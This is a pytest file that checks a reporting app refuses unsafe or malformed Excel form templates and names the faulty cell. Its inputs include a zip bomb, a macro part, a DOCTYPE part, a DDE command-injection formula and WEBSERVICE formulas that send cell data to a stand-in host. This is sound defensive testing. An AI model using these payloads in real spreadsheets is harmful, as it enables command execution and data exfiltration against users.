"""Forms that are not taken: each is refused with what is wrong, naming the sheet and the cell."""

import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment

from app.core.errors import Invalid
from app.reports.catalog import REPORTS
from app.reports.own_forms.trying import try_form
from tests.reports.own_forms import forms

LINE = {"A3": "{{行名}}", "B3": "{{起数}}", "C3": "{{同比率}}"}
CLASSES = {"A3": "{{大类}}", "B3": "{{件批次}}", "A4": "{{小类}}", "B4": "{{件批次}}"}


def with_part(name: str, content: bytes = b"<x/>", *, packed=zipfile.ZIP_STORED) -> bytes:
    stream = BytesIO(forms.level())
    with zipfile.ZipFile(stream, "a", packed) as archive:
        archive.writestr(name, content)
    return stream.getvalue()


def with_sheet(old: bytes, new: bytes) -> bytes:
    """Return the form with another text in its first sheet."""
    stream = BytesIO()
    with zipfile.ZipFile(BytesIO(forms.level())) as made, zipfile.ZipFile(stream, "w") as other:
        for name in made.namelist():
            data = made.read(name)
            other.writestr(name, data.replace(old, new) if name.endswith("sheet1.xml") else data)
    return stream.getvalue()


def edited(change) -> bytes:
    book = load_workbook(BytesIO(forms.level()))
    change(book)
    return forms.saved(book)


def chart(book):
    drawn = BarChart()
    drawn.add_data(Reference(book.active, min_col=3, min_row=4, max_row=6))
    book.active.add_chart(drawn, "J2")


def note(book):
    book.active["C5"].comment = Comment("看这里", "某人")


def link(book):
    book.active["A9"].hyperlink = "http://elsewhere/"


FILES = [
    (b"%PDF-1.7", "not an Excel workbook"),
    (b"PK\x03\x04broken", "not an Excel workbook"),
    (b"PK\x03\x04" + b"0" * 6 * 1024**2, "larger than 5 MB"),
    (with_part("xl/bomb.xml", b"0" * 41 * 1024**2, packed=zipfile.ZIP_DEFLATED), "too large"),
    (with_part("xl/vbaProject.bin"), "contains macros"),
    (with_part("docProps/x.xml", b"<!DOCTYPE a>"), "not an Excel workbook"),
    (with_part("XL/Styles.xml"), "not an Excel workbook"),
    (edited(chart), "contains pictures or shapes|contains charts"),
    (edited(note), "contains notes on cells"),
    (edited(link), "contains links"),
    (with_part("xl/media/image1.png"), "contains pictures or shapes"),
    (with_part("xl/externalLinks/externalLink1.xml"), "contains links to other workbooks"),
    (with_part("xl/pivotTables/pivotTable1.xml"), "contains pivot tables"),
    (with_part("xl/strange/one.xml"), "neither text, layout nor formula .xl/strange/one.xml"),
    (with_sheet(b"</worksheet>", b"<extLst/></worksheet>"), "data bars, lists or sparklines"),
]


@pytest.mark.parametrize(("data", "sentence"), FILES)
def test_a_file_that_would_be_filled_wrongly_is_refused(db, data, sentence):
    refuses("level", data, sentence)


def refuses(report: str, data: bytes, sentence: str) -> None:
    with pytest.raises(Invalid, match=sentence) as refusal:
        try_form(REPORTS[report], data)
    assert refusal.value.field == "file"


LARGE = [
    {"XFD1048576": 1},
    {"A1001": 1},
    {"GS1": 1},
    {f"B{row}": "=1" for row in range(10, 1000)} | {f"C{row}": "=1" for row in range(10, 1000)}
    | {f"D{row}": "=1" for row in range(10, 100)},
]  # fmt: skip


@pytest.mark.parametrize("cells", LARGE, ids=("far", "down", "right", "formulas"))
def test_what_is_larger_than_a_form_is_refused_before_it_is_read(db, cells, monkeypatch):
    data = forms.level(**cells)
    monkeypatch.delattr("app.core.render.excel_open.load_workbook")
    refuses("level", data, "at most 1000 rows and 200 columns")


def test_a_merge_as_large_as_a_sheet_is_refused(db):
    merged = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
    refuses("level", with_sheet(b"</worksheet>", merged), "at most 1000 rows")


def test_all_sheets_together_are_no_larger_than_a_form(db):
    def filled(book):
        for number in range(3):
            page = book.create_sheet(f"表{number}")
            page["GR70"] = 1

    refuses("level", edited(filled), "40000 cells")


CELLS = [
    ({"C5": "{{批此}}"}, "上访层次”, C5: an unknown mark “批此”"),
    ({"B9": None, "A9": "填报人：{{填报人"}, "A9: braces that do not belong"),
    ({"A9": "{{批次}}", "A1": "x"}, "A?9?.*second row of lines"),
    ({"G5": "=C5/C6"}, "G5: on every line C6 would be another cell"),
    ({"G5": "=C5/C3"}, "G5: on every line C3"),
    ({"G5": "=C5/摘要!B1"}, "G5: on every line 摘要!B1"),
    ({"C6": "=SUM(C:C)"}, "C6: “C:C” cannot be followed"),
    ({"C6": '=SUM(INDIRECT("C5:C5"))'}, "C6: INDIRECT cannot follow"),
    ({"C6": '=WEBSERVICE("http://elsewhere/"&C5)'}, "C6: a form may not use the function WEB"),
    ({"C6": '=HYPERLINK ("http://elsewhere/","x")'}, "C6: a formula that cannot be read"),
    ({"C6": '=_xlfn.webservice ("http://elsewhere/")'}, "C6: a formula that cannot be read"),
    ({"C6": '=_xlfn._xlws.PY("x")'}, "C6: a form may not use the function PY"),
    ({"C6": '=SQL.REQUEST("x")'}, "C6: a form may not use the function SQL.REQUEST"),
    ({"C6": '=CELL("filename")'}, "C6: a form may not use the function CELL"),
    ({"C6": '=indirect("B5")'}, "C6: INDIRECT cannot follow"),
    ({"C6": '=IF(1,WEBSERVICE,0)("http://elsewhere/")'}, "C6: a formula that cannot be read"),
    ({"C6": "=IF(1,WEBSERVICE,0)"}, "C6: “WEBSERVICE” cannot be followed"),
    ({"C6": "=_xlfn.LAMBDA(_xlpm.x,1)"}, "C6: a form may not use the function LAMBDA"),
    ({"C6": "=[1]Sheet1!A1"}, "C6: a formula that leads out"),
    ({"C6": "=cmd|' /C calc'!A0"}, "C6: a formula that cannot be read"),
    ({"C6": "=#REF!+1"}, "C6: a formula that points nowhere"),
    ({"C6": "={{合计.批次}}+1"}, "C6: a mark stands in a formula"),
    ({"C6": "=SUM(C5:C5"}, "C6: a formula that cannot be read"),
    ({"A10": "说明"}, "lacks marks that must stand in it: {{说明}}"),
    (dict.fromkeys(("A5", "B5", "C5", "D5", "E5", "F5", "H5"), "x"), "There is no row of lines"),
]


@pytest.mark.parametrize(("changed", "sentence"), CELLS)
def test_a_cell_that_cannot_be_filled_is_named(db, changed, sentence):
    refuses("level", forms.level(**changed), sentence)


@pytest.mark.parametrize(
    ("report", "cells", "sentence"),
    [
        ("abnormal", {**LINE, "B4": "=SUM(B3:B3)"}, "B4: numbers that are withheld"),
        ("abnormal", {**LINE, "D3": "=B3*2"}, "D3: numbers that are withheld"),
        ("content", {**CLASSES, "B5": "=SUM(B3:B4)"}, "B5: classes stand among their own parts"),
        (
            "content",
            {"A3": "{{小类}}", "B3": "{{件批次}}"},
            "3:3: the row of the classes is missing",
        ),
        ("content", {**CLASSES, "A5": "{{行名}}"}, "second row of lines"),
        ("level", {"A3": "{{小类}}", "B3": "{{批次}}"}, "A3: an unknown mark “小类”"),
        ("abnormal", {"A3": "{{另列}}", "B3": "{{起数}}"}, "the row of the lines themselves"),
    ],
)
def test_what_would_add_up_wrongly_is_refused(db, report, cells, sentence):
    refuses(report, forms.small(cells), sentence)


def test_the_same_forms_are_taken_without_the_mistake(db):
    try_form(REPORTS["level"], forms.level())
    try_form(REPORTS["abnormal"], forms.small({**LINE, "B4": "{{合计.起数}}"}))
    try_form(REPORTS["content"], forms.small({**CLASSES, "B5": "{{合计.件批次}}"}))
